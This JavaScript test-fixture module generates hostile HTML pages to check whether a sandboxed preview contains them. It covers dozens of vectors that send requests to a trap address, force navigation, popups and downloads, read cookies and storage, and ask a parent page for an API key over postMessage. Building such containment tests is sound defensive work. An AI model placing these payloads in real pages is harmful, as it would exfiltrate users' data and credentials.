// Generated pages that try to get out of their preview: each a name, a page, and what shows that it
// works where nothing holds it (`bites`: request, udp, dialog, page, download, moved or got; null: what
// Chromium does of its own accord cannot be waited for). `evil` is an address of the trap.
// A page that reached something it must not reach says so in `self.__got`.

const script = (code) => `<!doctype html><body><script>${code}</script>`;
const tried = (code) => script(`try { ${code} } catch (e) { self.__failed = String(e) }`);
const later = (code) => script(`(async () => { ${code} })().catch((e) => { self.__failed = String(e) })`);
const covering = 'style="position:fixed;inset:0;display:block;width:100%;height:100%;font-size:60px"';
const click = (markup) => `<!doctype html><body>${markup}`;
const frameDoc = (html) => html.replaceAll('&', '&amp;').replaceAll('"', '&quot;');

const peer = (evil) =>
  later(
    `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + new URL('${evil}').port }] });
     p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer())`,
  );

const network = [
  ['fetch', (evil) => later(`await fetch('${evil}')`)],
  ['fetch with keepalive', (evil) => later(`await fetch('${evil}', { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' })`)],
  ['XMLHttpRequest', (evil) => tried(`const x = new XMLHttpRequest(); x.open('GET', '${evil}'); x.send()`)],
  ['sendBeacon', (evil) => tried(`navigator.sendBeacon('${evil}', 'x')`)],
  ['WebSocket', (evil) => tried(`new WebSocket('${evil}'.replace('http', 'ws'))`)],
  ['EventSource', (evil) => tried(`new EventSource('${evil}')`)],
  ['an image', (evil) => `<img src="${evil}">`],
  ['an image set', (evil) => `<picture><source srcset="${evil}"><img srcset="${evil} 2x"></picture>`],
  ['an image of a script', (evil) => tried(`new Image().src = '${evil}'`)],
  ['a background', (evil) => `<style>body { background: url(${evil}) }</style><p>x`],
  ['urls all over a style', (evil) =>
    `<style>p { content: url(${evil}?1); cursor: url(${evil}?2), auto; mask: url(${evil}?3); list-style: url(${evil}?4); border-image: url(${evil}?5) } p::before { content: image-set(url(${evil}?6) 1x) }</style><p>x`],
  ['an imported style', (evil) => `<style>@import url(${evil});</style>`],
  ['a style sheet', (evil) => `<link rel="stylesheet" href="${evil}">`],
  ['a font', (evil) => `<style>@font-face { font-family: f; src: url(${evil}) } p { font-family: f }</style><p>x`],
  ['a script', (evil) => `<script src="${evil}"></script>`],
  ['a module', (evil) => `<script type="module">import '${evil}'</script>`],
  ['a dynamic import', (evil) => later(`await import('${evil}')`)],
  ['an import map', (evil) => `<script type="importmap">{"imports":{"x":"${evil}"}}</script><script type="module">import 'x'</script>`],
  ['an iframe', (evil) => `<iframe src="${evil}"></iframe>`],
  ['an iframe with srcdoc', (evil) => `<iframe srcdoc="${frameDoc(`<img src="${evil}"><script>fetch("${evil}")</script>`)}"></iframe>`],
  ['an iframe with a data URL', (evil) => `<iframe src="data:text/html,${encodeURIComponent(`<img src="${evil}">`)}"></iframe>`],
  ['an iframe with a script URL', (evil) => `<iframe src="javascript:'<img src=${evil}>'"></iframe>`],
  ['an iframe with a blob', (evil) =>
    tried(`const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<img src="${evil}">'], { type: 'text/html' })); document.body.append(f)`)],
  ['an object', (evil) => `<object data="${evil}"></object>`],
  ['an embed', (evil) => `<embed src="${evil}">`],
  ['a video and its poster', (evil) => `<video src="${evil}" poster="${evil}?p" autoplay muted></video>`],
  ['a sound and its subtitles', (evil) => `<audio src="${evil}" preload="auto"><track default src="${evil}?t"></audio>`],
  ['a picture in SVG', (evil) => `<svg><image href="${evil}" width="9" height="9"/><use href="${evil}?u#a"/></svg>`],
  ['a script in SVG', (evil) => `<svg><script href="${evil}"></script><script>new Image().src = '${evil}?s'</script></svg>`],
  ['an old background and a picture button', (evil) => `<body background="${evil}"><input type="image" src="${evil}?i">`],
  ['a base address', (evil) => `<base href="${evil}/"><img src="x.png">`],
  ['a prefetch', (evil) => `<link rel="prefetch" href="${evil}">`],
  ['a preload', (evil) => `<link rel="preload" as="image" href="${evil}"><link rel="modulepreload" href="${evil}?m">`],
  ['a preconnect', (evil) => `<link rel="preconnect" href="${evil}"><link rel="dns-prefetch" href="${evil}">`, null],
  ['speculation rules', (evil) => `<script type="speculationrules">{"prefetch":[{"urls":["${evil}"]}],"prerender":[{"urls":["${evil}?p"]}]}</script>`, null],
  ['an icon and a manifest', (evil) => `<link rel="icon" href="${evil}"><link rel="manifest" href="${evil}?m">`, null],
  ['markup written by a script', (evil) => tried(`document.write('<img src="${evil}"><script src="${evil}?s"><\\/script>')`)],
  ['a worker of its own making', (evil) =>
    tried(`new Worker(URL.createObjectURL(new Blob(['fetch("${evil}", { mode: "no-cors" }); importScripts("${evil}?i")'])))`)],
  ['a worklet', (evil) => later(`await new AudioContext().audioWorklet.addModule('${evil}'); await CSS.paintWorklet?.addModule('${evil}?p')`), null],
  ['a fetch after the end', (evil) => tried(`fetchLater('${evil}', { activateAfter: 0 })`), null],
  ['attribution', (evil) => `<img src="data:," attributionsrc="${evil}"><script attributionsrc="${evil}?s"></script>`, null],
  ['a peer connection', (evil) => peer(evil), 'udp'],
  ['a peer connection of a frame within', (evil) => `<iframe srcdoc="${frameDoc(peer(evil))}"></iframe>`, 'udp'],
  ['a transport over UDP', (evil) => later(`await new WebTransport('${evil}'.replace('http:', 'https:')).ready`), null],
];

const going = [
  ['a refresh', (evil) => `<meta http-equiv="refresh" content="0;url=${evil}">`],
  ['its own location', (evil) => tried(`location.href = '${evil}'`)],
  ['the location of the top', (evil) => tried(`top.location = '${evil}'`)],
  ['the location of its parent', (evil) => tried(`parent.location.replace('${evil}')`)],
  ['the navigation interface', (evil) => tried(`navigation.navigate('${evil}')`)],
  ['a data URL of its own', (evil) => tried(`location = 'data:text/html,<img src="${evil}">'`), null],
  ['a blob of its own', (evil) => tried(`location = URL.createObjectURL(new Blob(['<img src="${evil}">'], { type: 'text/html' }))`)],
  ['a link', (evil) => click(`<a href="${evil}" ${covering}>x</a>`)],
  ['a link to the top', (evil) => click(`<a href="${evil}" target="_top" ${covering}>x</a>`)],
  ['a link to a new window', (evil) => click(`<a href="${evil}" target="_blank" ${covering}>x</a>`)],
  ['a link with a ping', (evil) => click(`<a href="#" ping="${evil}" ${covering}>x</a>`)],
  ['a link with a script', () => click(`<a href="javascript:void(self.__clicked = 1, alert(1))" ${covering}>x</a>`), 'dialog'],
  ['a link in MathML', (evil) => click(`<math ${covering} href="${evil}"><mtext ${covering}>x</mtext></math>`), null],
  ['a link in SVG', (evil) => click(`<svg ${covering}><a href="${evil}" target="_top"><rect width="4000" height="4000"/></a></svg>`)],
  ['a download', (evil) => click(`<a href="data:text/plain,x" download="x.txt" ${covering}>x</a><script>document.links[0].click()</script>`), 'download'],
  ['a download of a blob', () => tried(`const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['x'])); a.download = 'x.exe'; a.click()`), 'download'],
  ['a form', (evil) => `<form action="${evil}"><input name="a" value="b"></form><script>document.forms[0].submit()</script>`],
  ['a form to the top', (evil) => `<form method="post" target="_top" action="${evil}"></form><script>document.forms[0].submit()</script>`],
  ['a button with an address of its own', (evil) => click(`<form><button formaction="${evil}" formtarget="_blank" ${covering}>x</button></form>`)],
  ['a popup', (evil) => tried(`self.__window = window.open('${evil}')`)],
  ['a popup on a click', (evil) => click(`<button ${covering}>x</button><script>onclick = () => window.open('${evil}')</script>`)],
  ['a window named like another', (evil) => tried(`window.open('${evil}', '_parent'); window.open('${evil}?t', '_top')`)],
];

const asking = [
  ['alert', () => tried('alert(1)'), 'dialog'],
  ['confirm and prompt', () => tried('confirm(1); prompt(1)'), 'dialog'],
  ['a question before it goes', (evil) => click(`<button ${covering}>x</button><script>onbeforeunload = (e) => { e.preventDefault(); return 'x' }; onclick = () => { location = '${evil}' }</script>`), 'dialog'],
];

const reaching = [
  ['local storage', () => tried(`self.__got = localStorage.getItem('secret')`)],
  ['session storage', () => tried(`sessionStorage.setItem('x', '1'); self.__got = sessionStorage.getItem('x')`)],
  ['cookies', () => tried(`self.__got = document.cookie`)],
  ['cookies of its own', () => tried(`document.cookie = 'planted=1'; self.__got = document.cookie`)],
  ['a database', () => tried(`indexedDB.open('x').onsuccess = () => { self.__got = 'database' }`)],
  ['a cache', () => later(`await caches.open('x'); self.__got = 'cache'`)],
  ['the file system of its origin', () => later(`await navigator.storage.getDirectory(); self.__got = 'files'`)],
  ['a lock', () => later(`await navigator.locks.request('x', () => {}); self.__got = 'lock'`)],
  ['a service worker', () => later(`await navigator.serviceWorker.register('/static/feedback.js'); self.__got = 'worker'`)],
  ['a channel to other pages', () => tried(`new BroadcastChannel('x'); self.__got = self.origin === 'null' ? undefined : 'channel'`)],
  ['the API', () => later(`const r = await fetch('/api/clones'); self.__got = r.status`)],
  ['the page around it', () => tried(`self.__got = parent === self ? undefined : parent.document.body.innerText`), null],
  ['the top', () => tried(`self.__got = top === self ? undefined : top.document.title`), null],
  ['the element that frames it', () => tried(`self.__got = frameElement ?? undefined`), null],
  ['the origin of the dashboard', () => tried(`document.domain = '127.0.0.1'; self.__got = self.origin === 'null' ? undefined : self.origin`)],
  ['who opened it', () => tried(`self.__got = opener === null ? undefined : 'opener'`), null],
  ['the page around it, by messages', () =>
    script(`onmessage = (e) => { self.__got = String(e.data) }; for (const w of [parent, top]) if (w !== self) for (const m of ['ping', { type: 'get', key: 'ts-api-key' }]) w.postMessage(m, '*')`), null],
  ['the clipboard', () => click(`<button ${covering}>x</button><script>onclick = async () => { await navigator.clipboard.writeText('x'); self.__got = 'clipboard' }</script>`), null],
  ['the whole screen', () => click(`<button ${covering}>x</button><script>onclick = async () => { await document.documentElement.requestFullscreen(); self.__got = 'screen' }</script>`), 'got'],
  ['the pointer', () => click(`<button ${covering}>x</button><script>onclick = async () => { await document.body.requestPointerLock(); if (document.pointerLockElement) self.__got = 'pointer' }</script>`), null],
];

const as = (list, bites) => list.map(([name, page, own]) => ({ name, page, bites: own === undefined ? bites : own }));

export const CASES = [
  ...as(network, 'request'),
  ...as(going, 'request'),
  ...as(asking, 'dialog'),
  ...as(reaching, 'got'),
];
